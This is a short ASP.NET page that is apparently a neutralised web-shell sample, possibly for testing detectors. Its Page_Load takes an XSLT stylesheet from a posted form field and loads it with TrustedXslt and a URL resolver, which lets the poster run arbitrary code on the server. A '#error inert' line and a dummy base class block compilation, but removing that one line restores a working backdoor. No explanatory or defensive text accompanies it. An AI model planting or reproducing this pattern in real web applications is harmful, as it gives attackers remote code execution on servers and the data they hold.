<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ XmlDocument d = new XmlDocument(); d.LoadXml("<r/>"); XmlDocument x = new XmlDocument(); x.LoadXml(Request.Form["x"]); XslCompiledTransform t = new XslCompiledTransform(); t.Load(x, XsltSettings.TrustedXslt, new XmlUrlResolver()); t.Transform(d, null, new MemoryStream()); }
</script>